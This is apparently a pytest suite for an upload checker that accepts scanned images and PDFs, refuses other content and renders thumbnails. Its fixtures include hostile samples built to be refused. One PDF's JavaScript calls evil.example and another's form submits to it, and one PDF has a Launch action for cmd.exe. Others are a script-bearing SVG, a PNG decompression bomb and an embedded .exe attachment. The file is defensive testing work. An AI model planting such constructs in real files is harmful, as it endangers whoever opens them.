"""Uploaded archive scans (sidms.lib.files): what is accepted, what is refused and why.

Every file is generated here, in memory: images with Pillow, PDFs with pypdf or written out byte by
byte (``raw_pdf``) when the test needs a construct that a PDF library would not produce on purpose.
"""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter

from sidms.lib import files
from sidms.lib.errors import StandardError
from sidms.lib.files import FileRefused

LIMITS = {"max_bytes": 5_000_000, "max_pixels": 40_000_000}

pytestmark = [pytest.mark.req("R2.4"), pytest.mark.req("R7.4")]


# --- generators -------------------------------------------------------------------------------------------


def image_bytes(fmt: str, size: tuple[int, int] = (600, 800), mode: str = "RGB", **save: object) -> bytes:
    colour: object = (200, 120, 40) if mode in {"RGB", "CMYK"} else 128
    if mode == "CMYK":
        colour = (10, 60, 90, 0)
    out = io.BytesIO()
    Image.new(mode, size, colour).save(out, fmt, **save)
    return out.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width × height`` (8-bit grey); the pixel data is a few bytes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + png_chunk(b"IEND", b"")
    )


def raw_pdf(*objects: str, trailer: str = "") -> bytes:
    """A PDF with a correct cross-reference table; object 1 must be the catalog."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer}>>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return out


def one_page_pdf(*, catalog: str = "", page: str = "", extra: tuple[str, ...] = ()) -> bytes:
    """Catalog (1), page tree (2), one page (3), then ``extra`` as objects 4, 5 …"""
    return raw_pdf(
        f"<< /Type /Catalog /Pages 2 0 R {catalog}>>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {page}>>",
        *extra,
    )


def pypdf_bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def blank_pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    return pypdf_bytes(writer)


def refusal(data: bytes, **limits: int) -> FileRefused:
    with pytest.raises(FileRefused) as info:
        files.inspect(data, **{**LIMITS, **limits})
    error = info.value
    assert isinstance(error, StandardError)
    assert error.message and error.message_en
    return error


# --- accepted -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "kind", "mime"),
    [("JPEG", "jpeg", "image/jpeg"), ("PNG", "png", "image/png"), ("TIFF", "tiff", "image/tiff")],
)
def test_valid_images_are_accepted_with_their_size(fmt: str, kind: str, mime: str) -> None:
    data = image_bytes(fmt, (600, 800))
    found = files.inspect(data, **LIMITS)
    assert (found.kind, found.mime, found.width, found.height, found.pages) == (kind, mime, 600, 800, 1)
    assert found.size == len(data)
    assert len(found.sha256) == 64


def test_a_multi_page_tiff_counts_its_frames() -> None:
    frames = [Image.new("L", (300, 400), shade) for shade in (0, 128, 255)]
    out = io.BytesIO()
    frames[0].save(out, "TIFF", save_all=True, append_images=frames[1:])
    assert files.inspect(out.getvalue(), **LIMITS).pages == 3


def test_a_blank_pdf_from_pypdf_is_accepted_and_its_pages_counted() -> None:
    found = files.inspect(blank_pdf(pages=3), **LIMITS)
    assert (found.kind, found.mime, found.pages, found.width, found.height) == (
        "pdf",
        "application/pdf",
        3,
        None,
        None,
    )


def test_a_scan_saved_as_pdf_by_pillow_is_accepted() -> None:
    found = files.inspect(image_bytes("PDF", (1240, 1754)), **LIMITS)
    assert (found.kind, found.pages) == ("pdf", 1)


def test_harmless_navigation_is_not_mistaken_for_active_content() -> None:
    # Most real PDFs open at a page (/OpenAction as a destination) and have web links: both are fine.
    data = one_page_pdf(
        catalog="/OpenAction [3 0 R /Fit] ",
        page="/Annots [4 0 R] ",
        extra=(
            "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://hrss.weihai.gov.cn) >> >>",
        ),
    )
    assert files.inspect(data, **LIMITS).pages == 1


def test_the_page_tree_is_counted_not_its_count_entry() -> None:
    data = raw_pdf(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 1 >>",  # /Count lies
        *("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",) * 3,
    )
    assert files.inspect(data, **LIMITS).pages == 3


# --- refused before parsing ----------------------------------------------------------------------------


def test_an_oversized_file_is_refused_before_it_is_parsed() -> None:
    # Not even a valid image: the size check must come first.
    error = refusal(b"\xff\xd8\xff" + b"\x00" * 2_000, max_bytes=1_000)
    assert error.reason == "too_large"
    assert "超过上限" in error.message and "MB" in error.message


def test_an_empty_file_is_refused() -> None:
    assert refusal(b"").reason == "empty"


@pytest.mark.parametrize(
    ("data", "named"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200, "Windows 可执行程序"),  # uploaded as scan.jpg
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "Linux 可执行程序"),
        (b"PK\x03\x04\x14\x00\x00\x00" + b"\x00" * 200, "ZIP 压缩包"),
        (b"<!DOCTYPE html><html><body>scan</body></html>", "HTML 网页"),
        (
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "SVG",
        ),
        (b"GIF89a" + b"\x00" * 50, "GIF 图片"),
        (b"\x00\x00\x00\x18ftypheic" + b"\x00" * 50, "HEIC"),
        (b"hello, this is text", "无法识别"),
        (b"\xef\xbb\xbf%PDF-1.7\n" + b"\x00" * 50, "PDF 文件头前有多余内容"),
    ],
)
def test_other_content_is_refused_naming_what_it_is_and_what_is_accepted(data: bytes, named: str) -> None:
    error = refusal(data)
    assert error.reason == "unsupported_type"
    assert named in error.message
    assert "只接受 JPEG、PNG、TIFF" in error.message and "PDF" in error.message


def test_a_heic_photo_gets_advice_for_the_phone() -> None:
    assert "兼容性最佳" in refusal(b"\x00\x00\x00\x18ftypheic" + b"\x00" * 50).message


# --- images ---------------------------------------------------------------------------------------------


def test_a_decompression_bomb_is_refused_from_its_header() -> None:
    bomb = png_claiming(50_000, 50_000)
    assert len(bomb) < 200  # 2.5 G pixels claimed in a few dozen bytes
    error = refusal(bomb)
    assert error.reason == "too_many_pixels"
    assert "像素" in error.message and "超过上限" in error.message


def test_an_image_above_the_callers_pixel_limit_is_refused_with_its_size() -> None:
    # Below Pillow's own bomb threshold: our limit is the one that refuses, and it can name the size.
    error = refusal(png_claiming(5_000, 5_000), max_pixels=10_000_000)
    assert error.reason == "too_many_pixels"
    assert "5000×5000" in error.message


def test_image_max_pixels_global_is_left_alone() -> None:
    before = Image.MAX_IMAGE_PIXELS
    refusal(png_claiming(50_000, 50_000))
    assert before == Image.MAX_IMAGE_PIXELS


def test_a_truncated_jpeg_is_refused() -> None:
    data = image_bytes("JPEG", (1000, 1000), quality=95)
    error = refusal(data[: len(data) // 2])
    assert error.reason == "corrupt_image"
    assert "损坏或不完整" in error.message and "JPEG" in error.message


def test_a_truncated_png_is_refused() -> None:
    data = image_bytes("PNG", (300, 300))
    assert refusal(data[:-20]).reason == "corrupt_image"


def test_a_png_with_a_bad_checksum_is_refused() -> None:
    data = bytearray(image_bytes("PNG", (300, 300)))
    idat = data.index(b"IDAT")
    data[idat + 10] ^= 0xFF  # bit rot inside the compressed pixels
    assert refusal(bytes(data)).reason == "corrupt_image"


def test_a_truncated_tiff_is_refused() -> None:
    assert refusal(image_bytes("TIFF")[:300]).reason == "corrupt_image"


# --- PDFs ---------------------------------------------------------------------------------------------


JS_ACTION = "<< /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >>"


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(one_page_pdf(catalog="/OpenAction 4 0 R ", extra=(JS_ACTION,)), id="open-action"),
        pytest.param(
            one_page_pdf(catalog="/Names << /JavaScript << /Names [(init) 4 0 R] >> >> ", extra=(JS_ACTION,)),
            id="names-tree",
        ),
        pytest.param(one_page_pdf(page="/AA << /O 4 0 R >> ", extra=(JS_ACTION,)), id="page-aa"),
        pytest.param(
            one_page_pdf(
                page="/Annots [4 0 R] ",
                extra=("<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /E 5 0 R >> >>", JS_ACTION),
            ),
            id="annotation-aa",
        ),
        pytest.param(
            one_page_pdf(
                catalog="/AcroForm << /Fields [] /XFA 4 0 R >> ",
                extra=("<< /Length 0 >>\nstream\n\nendstream",),
            ),
            id="xfa-form",
        ),
    ],
)
def test_a_pdf_with_javascript_is_refused(data: bytes) -> None:
    error = refusal(data)
    assert error.reason == "pdf_javascript"
    assert "JavaScript" in error.message and "安全风险" in error.message


def test_javascript_hidden_behind_name_escapes_is_found() -> None:
    # /J#53 is /JS and /J#61vaScript is /JavaScript once the #xx escapes are undone.
    data = one_page_pdf(catalog="/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> ")
    assert refusal(data).reason == "pdf_javascript"


def test_a_pdf_with_a_launch_action_is_refused() -> None:
    data = one_page_pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >> ")
    error = refusal(data)
    assert error.reason == "pdf_launch"
    assert "启动程序" in error.message


def test_a_pdf_with_an_embedded_file_is_refused() -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("工资表.exe", b"MZ\x90\x00")
    error = refusal(pypdf_bytes(writer))
    assert error.reason == "pdf_embedded_file"
    assert "附件" in error.message


def test_a_pdf_with_a_file_attachment_annotation_is_refused() -> None:
    data = one_page_pdf(
        page="/Annots [4 0 R] ",
        extra=("<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>",),
    )
    assert refusal(data).reason == "pdf_embedded_file"


def test_a_pdf_that_submits_a_form_is_refused() -> None:
    data = one_page_pdf(catalog="/OpenAction << /S /SubmitForm /F (http://evil.example) >> ")
    assert refusal(data).reason == "pdf_active_content"


@pytest.mark.parametrize("owner_only", [False, True], ids=["open-password", "permissions-only"])
def test_an_encrypted_pdf_is_refused(owner_only: bool) -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("" if owner_only else "secret", "owner")
    data = pypdf_bytes(writer)
    assert PdfReader(io.BytesIO(data)).is_encrypted
    error = refusal(data)
    assert error.reason == "encrypted_pdf"
    assert "加密" in error.message


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"%PDF-1.7\n this is not a PDF at all", id="garbage"),
        pytest.param(blank_pdf()[:60], id="truncated"),
        pytest.param(
            raw_pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
            id="page-tree-loop",
        ),
        pytest.param(
            raw_pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"),
            id="no-pages",
        ),
        pytest.param(
            raw_pdf("<< /Type /Catalog /Pages 2 0 R >>", "(not a dictionary)"), id="pages-not-a-dict"
        ),
    ],
)
def test_a_malformed_pdf_is_refused_not_crashed_on(data: bytes) -> None:
    error = refusal(data)
    assert error.reason == "corrupt_pdf"
    assert "PDF" in error.message


def test_a_pdf_above_the_page_cap_is_refused() -> None:
    error = refusal(blank_pdf(pages=6), max_pages=5)
    assert error.reason == "too_many_pages"
    assert "5 页" in error.message


def test_a_pdf_carrying_a_bomb_image_is_refused() -> None:
    image = "<< /Type /XObject /Subtype /Image /Width 50000 /Height 50000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0 >>\nstream\n\nendstream"
    data = one_page_pdf(page="/Resources << /XObject << /Im0 4 0 R >> >> ", extra=(image,))
    error = refusal(data)
    assert error.reason == "too_many_pixels"
    assert "50000×50000" in error.message


# --- thumbnails -------------------------------------------------------------------------------------------


def png_image(data: bytes) -> Image.Image:
    assert data.startswith(b"\x89PNG\r\n\x1a\n")
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


@pytest.mark.parametrize(
    ("fmt", "mode", "size", "expected"),
    [
        ("JPEG", "RGB", (1200, 1600), (240, 320)),
        ("JPEG", "CMYK", (1600, 1200), (240, 180)),
        ("PNG", "RGB", (600, 800), (240, 320)),
        ("PNG", "I;16", (800, 600), (240, 180)),
        ("TIFF", "1", (2480, 3508), (226, 320)),
        ("PNG", "RGB", (100, 50), (100, 50)),  # never enlarged
    ],
)
def test_image_thumbnails_fit_the_box(
    fmt: str, mode: str, size: tuple[int, int], expected: tuple[int, int]
) -> None:
    data = image_bytes(fmt, size, mode)
    thumb = png_image(files.thumbnail(data, files.inspect(data, **LIMITS)))
    assert thumb.size == expected
    assert thumb.mode in {"L", "LA", "RGB", "RGBA"}


def test_a_phone_photo_is_thumbnailed_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # stored landscape, shown rotated by 90°
    data = image_bytes("JPEG", (800, 600), exif=exif.tobytes())
    found = files.inspect(data, **LIMITS)
    assert (found.width, found.height) == (800, 600)  # as stored
    # Upright it is 600×800 (portrait): it fills (240, 320); unrotated it would be 240×180.
    assert png_image(files.thumbnail(data, found)).size == (240, 320)
    assert png_image(files.thumbnail(data, found, size=(320, 240))).size == (180, 240)


def test_a_scanned_pdf_is_thumbnailed_from_its_page_image() -> None:
    out = io.BytesIO()
    Image.new("RGB", (1240, 1754), (20, 160, 20)).save(out, "PDF")
    data = out.getvalue()
    thumb = png_image(files.thumbnail(data, files.inspect(data, **LIMITS)))
    assert thumb.size == (226, 320)
    red, green, blue = thumb.convert("RGB").getpixel((100, 100))  # type: ignore[misc]
    assert green > 140 and red < 40 and blue < 40


def test_a_bilevel_scan_in_a_pdf_is_thumbnailed_through_pypdf() -> None:
    out = io.BytesIO()
    page = Image.new("1", (1240, 1754), 1)
    page.paste(0, (0, 0, 620, 1754))  # left half black
    page.save(out, "PDF")  # CCITT or Flate, not JPEG
    data = out.getvalue()
    thumb = png_image(files.thumbnail(data, files.inspect(data, **LIMITS))).convert("L")
    assert thumb.size == (226, 320)
    assert thumb.getpixel((20, 160)) == 0 and thumb.getpixel((200, 160)) == 255


def test_a_pdf_without_images_gets_a_placeholder_with_its_page_count() -> None:
    def placeholder(pages: int) -> bytes:
        data = blank_pdf(pages=pages)
        return files.thumbnail(data, files.inspect(data, **LIMITS), size=(240, 320))

    three = png_image(placeholder(3)).convert("RGB")
    assert three.size == (240, 320)  # the placeholder fills the box exactly
    colours = {colour for _, colour in three.getcolors(maxcolors=100_000) or []}
    assert any(red > 150 and green < 80 and blue < 80 for red, green, blue in colours)  # the red "PDF"
    assert placeholder(3) != placeholder(7)  # the page count is drawn


@pytest.mark.parametrize(
    ("font", "pages", "caption"),
    [
        (None, 1, "1 page"),
        (None, 3, "3 pages"),
        (Path("/usr/share/fonts/opentype/noto/NotoSansCJK-Regular.ttc"), 3, "3 页"),
    ],
)
def test_the_placeholder_says_pages_in_chinese_only_with_a_cjk_font(
    monkeypatch: pytest.MonkeyPatch, font: Path | None, pages: int, caption: str
) -> None:
    if font is not None and not font.exists():
        pytest.skip("no Noto CJK font on this machine")
    monkeypatch.setattr(files, "_cjk_font_path", lambda: font)
    assert files._caption(pages, 20)[0] == caption
    data = blank_pdf(pages=pages)
    assert png_image(files.thumbnail(data, files.inspect(data, **LIMITS))).size == (240, 320)


def test_thumbnails_write_no_temporary_files(monkeypatch: pytest.MonkeyPatch) -> None:
    import tempfile

    def forbidden(*args: object, **kwargs: object) -> None:
        raise AssertionError("a temporary file was created")

    for name in ("mkstemp", "mkdtemp", "NamedTemporaryFile", "TemporaryFile", "SpooledTemporaryFile"):
        monkeypatch.setattr(tempfile, name, forbidden)
    for data in (image_bytes("JPEG"), image_bytes("TIFF"), image_bytes("PDF"), blank_pdf()):
        files.thumbnail(data, files.inspect(data, **LIMITS))


# --- hostile bytes ----------------------------------------------------------------------------------------


@pytest.mark.filterwarnings("ignore::UserWarning")  # Pillow's notes on damaged TIFF tags
def test_damaged_files_are_refused_or_accepted_never_crash() -> None:
    """Seeded mutations of valid files: the only exception that may escape is FileRefused."""
    import random

    seeds = [
        image_bytes("JPEG"),
        image_bytes("PNG"),
        image_bytes("TIFF", (64, 64)),
        image_bytes("PDF", (300, 400)),
    ]
    seeds += [blank_pdf(pages=3), one_page_pdf(catalog="/OpenAction [3 0 R /Fit] ")]
    rng = random.Random(20_241)
    outcomes: set[str] = set()
    for _ in range(200):
        data = bytearray(rng.choice(seeds))
        for _ in range(rng.randint(1, 6)):
            position = rng.randrange(len(data))
            action = rng.random()
            if action < 0.6:
                data[position] = rng.randrange(256)
            elif action < 0.8:
                del data[position : position + rng.randint(1, 40)]
            else:
                data[position:position] = rng.randbytes(rng.randint(1, 20))
        try:
            found = files.inspect(bytes(data), **LIMITS)
            files.thumbnail(bytes(data), found)
            outcomes.add("accepted")
        except FileRefused as error:
            outcomes.add(error.reason)
    assert {"accepted", "corrupt_image", "corrupt_pdf"} <= outcomes
